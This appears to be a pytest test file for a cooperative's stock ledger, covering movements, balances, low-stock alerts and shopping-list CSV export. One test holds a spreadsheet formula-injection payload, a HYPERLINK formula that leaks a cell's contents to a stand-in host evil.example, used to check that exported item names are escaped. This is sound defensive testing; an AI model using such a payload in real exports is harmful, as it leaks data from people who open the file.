"""Stock movements and balances: a ledger whose sums are the balances."""

from __future__ import annotations

import csv

import pytest

from coopdesk.base.csvfile import CsvFormat
from coopdesk.base.errors import CoopDeskError, ValidationError
from coopdesk.base.files import OutputError
from coopdesk.coop.coop import add_site
from coopdesk.inventory import items as inventory
from coopdesk.inventory import stock
from coopdesk.inventory.stock import WouldGoNegative
from coopdesk.store.dump import dump_json


@pytest.fixture
def rice(store, ana) -> str:
    return inventory.add_item(
        store, ana, "Rice", unit="kg", decimals=3, minimum="5", category="Grains"
    )


@pytest.fixture
def warehouse(store, ana) -> str:
    return add_site(store, ana, "Warehouse")


def test_the_sign_follows_the_reason(store, ana, rice):
    stock.move(store, ana, rice, 10_000, "received")
    stock.move(store, ana, rice, 2_000, "used")  # a positive amount used is taken out
    stock.move(store, ana, rice, -1_000, "given")
    stock.move(store, ana, rice, 500, "spoiled")
    stock.move(store, ana, rice, -250, "correction")
    deltas = [m.delta for m in reversed(stock.history(store, rice))]
    assert deltas == [10_000, -2_000, -1_000, -500, -250]
    assert stock.balance(store, rice) == 6_250


def test_move_text_parses_display_units(store, ana, rice):
    stock.move_text(store, ana, rice, "2,5 kg", "received", note="donation")
    assert stock.balance(store, rice) == 2_500
    assert stock.history(store, rice)[0].note == "donation"


@pytest.mark.parametrize(
    ("quantity", "reason", "message"),
    [
        (0, "received", "zero"),
        (-5, "received", "positive"),
        (5, "transfer-in", "stock transfer"),
        (5, "stolen", "Reason must be one of"),
        (1.5, "received", "whole number"),
    ],
)
def test_bad_movements_are_refused_and_nothing_changes(store, ana, rice, quantity, reason, message):
    before = dump_json(store)
    with pytest.raises(ValidationError, match=message):
        stock.move(store, ana, rice, quantity, reason)
    assert dump_json(store) == before


@pytest.mark.parametrize(
    ("text", "message"), [("0", "zero"), ("lots", "not a quantity"), ("2 l", "not l")]
)
def test_bad_typed_quantities_change_nothing(store, ana, rice, text, message):
    before = dump_json(store)
    with pytest.raises(ValidationError, match=message):
        stock.move_text(store, ana, rice, text, "received")
    assert dump_json(store) == before


def test_taking_out_more_than_held_warns_and_can_be_recorded_anyway(store, ana, rice):
    stock.move(store, ana, rice, 3_000, "received")
    before = dump_json(store)
    with pytest.raises(WouldGoNegative) as raised:
        stock.move(store, ana, rice, 5_000, "used")
    assert str(raised.value) == (
        "Only 3 kg of Rice at Kitchen; taking 5 kg would leave \u22122 kg."
        " Record it anyway if that is what happened."
    )
    assert (raised.value.balance, raised.value.delta, raised.value.after) == (3_000, -5_000, -2_000)
    assert isinstance(raised.value, CoopDeskError)
    assert dump_json(store) == before
    stock.move(store, ana, rice, 5_000, "used", allow_negative=True)  # reality wins
    assert stock.balance(store, rice) == -2_000
    [flagged] = stock.negative_balances(store)
    assert (flagged.item_id, flagged.balance, flagged.negative) == (rice, -2_000, True)
    assert flagged.quantity_text == "\u22122 kg"


def test_archived_items_and_unknown_sites_are_refused(store, ana, rice):
    with pytest.raises(CoopDeskError, match="no site"):
        stock.move(store, ana, rice, 1, "received", site_id="00000000-0000-4000-8000-000000000000")
    inventory.archive_item(store, ana, rice)
    with pytest.raises(ValidationError, match="archived"):
        stock.move(store, ana, rice, 1, "received")


def test_balances_cover_every_item_at_every_site(store, ana, rice, warehouse):
    oil = inventory.add_item(store, ana, "Oil", unit="l", decimals=1, category="Oil")
    stock.move(store, ana, rice, 7_000, "received")
    stock.move(store, ana, oil, 30, "received", site_id=warehouse)
    rows = stock.balances(store)
    assert [(r.name, r.site_name, r.balance) for r in rows] == [
        ("Oil", "Kitchen", 0),
        ("Oil", "Warehouse", 30),
        ("Rice", "Kitchen", 7_000),
        ("Rice", "Warehouse", 0),
    ]
    assert [r.name for r in stock.balances(store, search="ric")] == ["Rice", "Rice"]
    assert [r.name for r in stock.balances(store, category="Oil")] == ["Oil", "Oil"]
    assert [(r.name, r.site_name) for r in stock.balances(store, include_zero=False)] == [
        ("Oil", "Warehouse"),
        ("Rice", "Kitchen"),
    ]
    assert [r.site_name for r in stock.balances(store, site_id=warehouse)] == ["Warehouse"] * 2
    assert rows[1].as_json()["quantity"] == "3" and rows[1].quantity_text == "3 l"
    assert stock.balance(store, oil, warehouse) == 30 and stock.balance(store, oil) == 0


def test_history_is_newest_first_with_who_and_where(store, ana, rice, warehouse):
    tomas = _member(store, ana, "Tomás")
    stock.move(store, ana, rice, 4_000, "received", when="2026-11-01T10:00:00")
    stock.move(store, tomas, rice, 1_000, "used", when="2026-11-02T12:00:00", note="lunch")
    stock.move(store, ana, rice, 2_000, "received", site_id=warehouse, when="2026-11-03T09:00")
    moves = stock.history(store, rice)
    assert [(m.delta, m.author_name, m.site_name) for m in moves] == [
        (2_000, "Ana", "Warehouse"),
        (-1_000, "Tomás", "Kitchen"),
        (4_000, "Ana", "Kitchen"),
    ]
    assert moves[1].moved_at == "2026-11-02T12:00:00" and moves[1].reason_label == "used"
    assert [m.delta for m in stock.history(store, rice, site_id=store.site_id)] == [-1_000, 4_000]
    assert len(stock.history(store, rice, limit=1)) == 1


def test_ledger_rows_cannot_be_changed(store, ana, rice):
    move_id = stock.move(store, ana, rice, 1_000, "received")
    with pytest.raises(ValidationError, match="never changed"), store.transaction(ana) as tx:
        tx.update("stock_move", move_id, {"delta": 5})
    assert stock.balance(store, rice) == 1_000


def test_low_stock_uses_the_site_minimum_else_the_item_minimum(store, ana, rice, warehouse):
    beans = inventory.add_item(store, ana, "Beans", unit="tin", minimum=10)
    stock.move(store, ana, rice, 4_000, "received")  # under the item's 5 kg
    stock.move(store, ana, rice, 9_000, "received", site_id=warehouse)
    inventory.set_minimum(store, ana, rice, warehouse, "10")  # under the Warehouse's 10 kg
    stock.move(store, ana, beans, 12, "received")  # above 10
    low = stock.low_stock(store)
    assert [(r.name, r.site_name, r.balance, r.minimum) for r in low] == [
        ("Rice", "Kitchen", 4_000, 5_000),
        ("Rice", "Warehouse", 9_000, 10_000),
    ]
    # Beans were never at the Warehouse: a site that does not keep an item is not short of it.
    assert [r.site_name for r in stock.low_stock(store, warehouse)] == ["Warehouse"]


def test_a_new_item_with_a_minimum_and_no_stock_is_on_the_shopping_list(store, ana, warehouse):
    """It never reached the list: no site "kept" an item nobody had bought yet."""
    oats = inventory.add_item(store, ana, "Oats", unit="kg", decimals=3, minimum="2")
    assert [(r.name, r.site_name, r.to_buy) for r in stock.low_stock(store)] == [
        ("Oats", "Kitchen", 2_000),
        ("Oats", "Warehouse", 2_000),
    ]
    assert [row["to buy"] for row in stock.shopping_list(store, store.site_id)] == ["2"]
    # Once a site stocks it, only the sites that keep it are short of it.
    stock.move(store, ana, oats, 500, "received")
    assert [(r.site_name, r.balance) for r in stock.low_stock(store)] == [("Kitchen", 500)]


def test_shopping_list_csv(store, ana, rice, tmp_path):
    stock.move(store, ana, rice, 1_500, "received")
    (tmp_path / "out").mkdir()
    path = tmp_path / "out" / "shopping.csv"
    assert stock.shopping_list_csv(store, path, csv_format=CsvFormat(",", ".")) == (path, 1)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["item", "site", "have", "minimum", "to buy", "unit"],
        ["Rice", "Kitchen", "1.5", "5", "3.5", "kg"],
    ]
    assert [p.name for p in path.parent.iterdir()] == ["shopping.csv"]  # no temporary left
    stock.shopping_list_csv(store, path, csv_format=CsvFormat(";", ","))
    assert path.read_bytes().splitlines()[1] == b'"Rice";"Kitchen";1,5;5;3,5;"kg"'
    with pytest.raises(OutputError, match="does not exist"):
        stock.shopping_list_csv(store, tmp_path / "missing" / "x.csv")


def test_item_names_cannot_become_formulas_in_the_shopping_list(store, ana, tmp_path):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    names = (attack, "+1+2", "-2+3", "@SUM(A1:A9)")
    for name in names:
        item = inventory.add_item(store, ana, name, unit="kg", minimum="5")
        stock.move(store, ana, item, 1, "received")  # kept here, and under its minimum
    path, count = stock.shopping_list_csv(store, tmp_path, csv_format=CsvFormat(",", "."))
    assert count == 4
    with open(path, encoding="utf-8-sig", newline="") as handle:
        written = sorted(row[0] for row in list(csv.reader(handle))[1:])
    assert written == sorted("'" + name for name in names)


def test_derived_balances_never_drift_from_the_ledger(store, ana, rice, warehouse):
    for delta, site in ((5_000, None), (-2_000, None), (700, warehouse), (-100, warehouse)):
        stock.move(store, ana, rice, delta, "correction", site_id=site, allow_negative=True)
    assert stock.balance_drift(store) == []
    # Drift is noticed (a store whose derived table was tampered with).
    store.conn.execute("UPDATE _stock_balance SET balance = balance + 1")
    assert len(stock.balance_drift(store)) == 2


def test_a_correction_needs_the_stock_mandate(store, ana, rice, monkeypatch):
    from coopdesk.roles import mandates

    def refuse(tx, action, detail):
        assert action == "stock"
        raise mandates.MandateRequiredError("Only this term's Stock keeper can do this.")

    monkeypatch.setattr(mandates, "use_mandate", refuse)
    before = dump_json(store)
    with pytest.raises(mandates.MandateRequiredError):
        stock.move(store, ana, rice, 1_000, "correction")
    assert dump_json(store) == before
    stock.move(store, ana, rice, 1_000, "received")  # no mandate needed


def _member(store, author: str, name: str) -> str:
    from coopdesk.coop.members import add_member

    return add_member(store, author, name)


def test_long_and_short_periods_read_the_ledger_two_ways_with_the_same_totals(
    store, ana, rice, warehouse, monkeypatch
):
    """A period covering most of the ledger is summed along the by-item index, a short one
    read by date: both ways must count the same movements and the same runs low."""
    import datetime as dt

    inventory.set_minimum(store, ana, rice, store.site_id, "0.040")  # 40 g
    inventory.set_minimum(store, ana, rice, warehouse, "0.030")
    first = dt.datetime(2024, 1, 1, 9)
    for day in range(0, 360, 3):
        when = first + dt.timedelta(days=day)
        site = warehouse if day % 2 else store.site_id
        stock.move(store, ana, rice, 30, "received", when=when, site_id=site)
        stock.move(
            store, ana, rice, 20 + day % 7 * 3, "used", when=when, site_id=site, allow_negative=True
        )
    periods = [
        (dt.date(2024, 1, 1), dt.date(2024, 12, 31)),
        (dt.date(2024, 2, 10), dt.date(2024, 11, 5)),
        (dt.date(2024, 3, 1), dt.date(2024, 3, 31)),
        (dt.date(2024, 1, 1), dt.date(2024, 2, 1)),
    ]

    def figures(most: bool | None) -> list[object]:
        if most is not None:
            monkeypatch.setattr(stock, "_most_of_the_ledger", lambda *_args: most)
        return [
            (
                stock.movement_totals(store, start, end, by=None),
                stock.movement_totals(store, start, end, by=None, site_id=warehouse),
                stock.times_run_low(store, start, end),
                stock.times_run_low(store, start, end, site_id=warehouse),
            )
            for start, end in periods
        ]

    chosen = figures(None)
    assert chosen == figures(True) == figures(False)
    whole_year = chosen[0]
    assert sum(total for *_key, total, _count in whole_year[0]) == 120 * 30 - sum(
        20 + day % 7 * 3 for day in range(0, 360, 3)
    )
    assert whole_year[2] and whole_year[3]  # it ran low at both sites
